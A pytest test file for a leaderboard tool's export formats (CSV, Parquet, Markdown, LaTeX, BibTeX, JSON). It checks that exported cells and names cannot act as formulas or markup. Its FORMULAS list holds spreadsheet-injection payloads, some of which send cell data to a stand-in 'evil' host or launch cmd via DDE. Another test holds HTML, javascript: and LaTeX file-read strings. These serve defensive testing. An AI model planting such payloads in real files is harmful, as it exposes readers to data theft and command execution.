"""Files people and programs take away: whole, readable by what reads such files, and harmless in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import zipfile
from shutil import which

import pandas as pd
import pytest

from src.board.exports.formats import FORMATS
from src.board.exports.spreadsheet import safe_cell
from src.board.table.listing import listing
from src.board.table.query import Query
from src.core.frames.frame import from_contents, read_table
from tests.boards.small_board import ROWS, row, snapshot


def written(form: str, params: dict[str, str] | None = None, *rows, **options) -> bytes:
    return FORMATS[form].write(listing(snapshot(*rows), Query.parse(params or {}), **options))


def test_a_csv_holds_every_row_with_whole_numbers_and_unknown_empty():
    table = list(csv.DictReader(io.StringIO(written("csv").decode())))
    assert [(each["rank"], each["model"], each["average"]) for each in table] == [
        ("1", "org/first", "50.0"),
        ("2", "org/second", "40.0"),
        ("3", "other/small", "30.0"),
        ("", "other/partial", ""),
    ]
    partial = table[3]
    assert (partial["musr.score"], partial["license"], partial["params_b"]) == ("", "", "")
    assert float(table[0]["gpqa.raw"]) == pytest.approx(0.25 + 0.75 * 0.5)


def test_parquet_and_csv_hold_the_same_table():
    parquet = pd.read_parquet(io.BytesIO(written("parquet")))
    from_csv = pd.read_csv(io.BytesIO(written("csv")))
    pd.testing.assert_frame_equal(parquet, from_csv, check_dtype=False)


def test_a_file_holds_what_the_query_lists_and_its_columns():
    out = written("csv", {"q": "org", "sort": "average", "columns": "average,license"}).decode()
    assert out == "rank,model,average,license\r\n2,org/second,40.0,mit\r\n1,org/first,50.0,apache-2.0\r\n"


def test_json_lines_hold_one_record_a_line():
    lines = [json.loads(line) for line in written("jsonl", limit=1).splitlines()]
    assert len(lines) == 1
    assert (lines[0]["benchmarks"]["gpqa"]["raw"], lines[0]["benchmarks"]["gpqa"]["score"]) == (0.625, 50.0)
    assert lines[0]["generation"] == 0


FORMULAS = [
    '=HYPERLINK("http://evil/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "\ufeff=1+1", "\u200b=1+1",
    "=IMPORTXML(CONCAT(\"http://evil/\",A1),\"//a\")", "%0A=1+1", "|cmd", "=cmd|'/C calc'!A0", "\u00a0=1+1",
]  # fmt: skip


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_text_reaches_a_spreadsheet_as_a_formula(formula):
    within = {"Architecture": f"A{formula}", "Model sha": f"A,{formula}"}
    out = written("csv", {}, row("org/m", 1.0, **{"Hub License": formula, **within}))
    (cells,) = csv.DictReader(io.StringIO(out.decode(), newline=""))
    texts = [cell for cell in cells.values() if cell and not is_number(cell)]
    assert len(texts) > 10
    assert not [text for text in texts if text[0] in "=+-@\t\r\n＝＋－＠|%\ufeff\u200b\u00a0 "]


def is_number(text: str) -> bool:
    try:
        return float(text) is not None
    except ValueError:
        return False


def test_a_negative_number_stays_a_number():
    assert safe_cell(-1.5) == -1.5


def test_a_markdown_table_says_what_it_shows_and_when():
    assert written("md", {"columns": "average,params_b"}, limit=2).decode() == (
        "| Rank | Model | Average | Size (B) |\n"
        "| ---: | :--- | ---: | ---: |\n"
        "| 1 | org/first | 50.00 ± 1.6 | 70.0 |\n"
        "| 2 | org/second | 40.00 ± 1.6 | 8.0 |\n"
        "\n"
        "Open LLM Leaderboard v2, snapshot of 2025-02-08, revision a1b2c3d4e5f6; 2 of 4 rows; "
        "± is half of a 95 % interval.\n"
    )


def test_names_cannot_break_out_of_a_markdown_or_latex_table():
    evil = row(
        "org/m", 1.0, **{"Hub License": "a|b\n<img src=x onerror=1> [x](javascript:1) $\\input{/etc/passwd}$ %_^~{}"}
    )
    markdown = written("md", {"columns": "license"}, evil).decode()
    assert markdown.split("\n")[2] == (
        "| 1 | org/m | a\\|b \\<img src=x onerror=1\\> \\[x\\](javascript:1) \\$\\\\input{/etc/passwd}\\$ %\\_^\\~{} |"
    )
    latex = written("tex", {"columns": "license"}, evil).decode()
    assert r"\$\textbackslash{}input\{/etc/passwd\}\$ \%\_\textasciicircum{}\textasciitilde{}\{\}" in latex
    assert "\\input{" not in latex


@pytest.mark.skipif(which("pdflatex") is None, reason="needs pdflatex: apt install texlive-latex-extra")
def test_latex_compiles(tmp_path):
    body = written("tex").decode()
    document = f"\\documentclass{{article}}\\usepackage{{booktabs}}\\begin{{document}}{body}\\end{{document}}"
    (tmp_path / "t.tex").write_text(document)
    run = subprocess.run(
        ["pdflatex", "-halt-on-error", "t.tex"], cwd=tmp_path, capture_output=True, text=True, check=False
    )
    assert run.returncode == 0, run.stdout[-2000:]


def test_latex_has_as_many_cells_in_each_row_as_columns():
    lines = written("tex").decode().split("\n")
    columns = len(next(line for line in lines if "begin{tabular}" in line).split("{")[2].rstrip("}"))
    rows = [line for line in lines if line.endswith(r"\\")]
    assert len(rows) == 1 + len(ROWS)
    assert {line.count(" & ") + 1 for line in rows} == {columns}


def test_bibtex_cites_the_snapshot_and_the_suites_benchmarks():
    out = written("bib").decode()
    assert "note = {Snapshot of 2025-02-08, revision a1b2c3d4e5f6, 4 results}" in out
    keys = [line[6:-1] for line in out.split("\n") if line.startswith("@misc{")]
    assert keys == ["open-llm-leaderboard-v2", "eval-harness", "ifeval", "bbh", "math", "gpqa", "musr", "mmlu-pro"]
    assert out.count("{") == out.count("}")


def test_every_eval_ever_takes_our_records(tmp_path):
    validator = pytest.importorskip(
        "every_eval_ever.validator.validate",
        reason="its validator: pip install --no-deps --ignore-requires-python every_eval_ever==0.3.0",
    )
    archive = zipfile.ZipFile(io.BytesIO(written("eee.zip")))
    archive.extractall(tmp_path)
    for name in archive.namelist():
        report = validator.validate_aggregate(tmp_path / name, repo_path=name, run_semantic_checks=True)
        assert (report.errors, report.warnings) == ([], [])
    assert len(archive.namelist()) == len(ROWS)


def test_every_eval_ever_takes_a_whole_real_board(tmp_path, shared):
    validator = pytest.importorskip("every_eval_ever.validator.validate", reason="its validator is not installed")
    from src.board.exports.every_eval_ever import records

    board = snapshot()
    frame = from_contents(read_table(shared("data/contents/v2_final_merged_4576.parquet")), board.suite)
    found = records(listing(type(board)(frame, board.suite, "r", "local", board.as_of), Query()))
    assert len(found) > 4500
    for at, (path, record) in enumerate(found[::50]):
        file = tmp_path / f"{at}.json"
        file.write_text(json.dumps(record))
        report = validator.validate_aggregate(file, repo_path=path, run_semantic_checks=True)
        assert (path, report.errors, report.warnings) == (path, [], [])


def test_every_eval_ever_records_carry_raw_published_and_uncertainty():
    archive = zipfile.ZipFile(io.BytesIO(written("eee.zip", {"q": "first"})))
    (name,) = archive.namelist()
    assert name.startswith("data/open-llm-v2/org/first/")
    record = json.loads(archive.read(name))
    by_name = {each["evaluation_name"]: each for each in record["evaluation_results"]}
    assert by_name["GPQA (raw)"]["score_details"] == {"score": 0.625}
    published = by_name["MMLU-PRO (published)"]["score_details"]
    assert published["score"] == 50.0
    # sqrt(p (1 − p) / n) of 12,032 questions with p = 0.55, in points of a score that starts at chance
    assert published["uncertainty"]["standard_error"]["value"] == pytest.approx(
        100 / 0.9 * (0.55 * 0.45 / 12032) ** 0.5, rel=0.01
    )
    assert published["uncertainty"]["num_samples"] == 12032


def test_the_same_snapshot_gives_the_same_bytes():
    for form in FORMATS:
        assert written(form) == written(form)
